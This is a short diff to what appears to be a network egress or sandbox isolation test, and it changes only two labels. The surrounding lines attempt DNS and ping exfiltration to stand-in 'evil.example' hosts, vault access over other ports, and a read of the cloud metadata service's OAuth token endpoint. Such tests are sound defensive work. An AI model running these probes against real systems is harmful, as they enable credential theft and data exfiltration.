@@ -109,9 +109,9 @@ def main():
         tried("... in a DNS query", "another resolver", "203.0.113.53", "udp/53",
               ask_udp("203.0.113.53", 53, query("stolen.evil.example")))
         tried("... in a ping", "evil.example", "203.0.113.66", "icmp", ping("203.0.113.66"))
-        tried("ask the vault in the clear", VAULT, "198.51.100.130", "tcp/80",
+        tried("the vault in the clear", VAULT, "198.51.100.130", "tcp/80",
               curl(f"http://{VAULT}/"))
-        tried("another port of the vault", VAULT, "198.51.100.130", "tcp/8443",
+        tried("the vault, other port", VAULT, "198.51.100.130", "tcp/8443",
               curl(f"https://{VAULT}:8443/"))
         tried("the machine's own token", "metadata service", "169.254.169.254", "tcp/80",
               curl("http://169.254.169.254/metadata/identity/oauth2/token"))
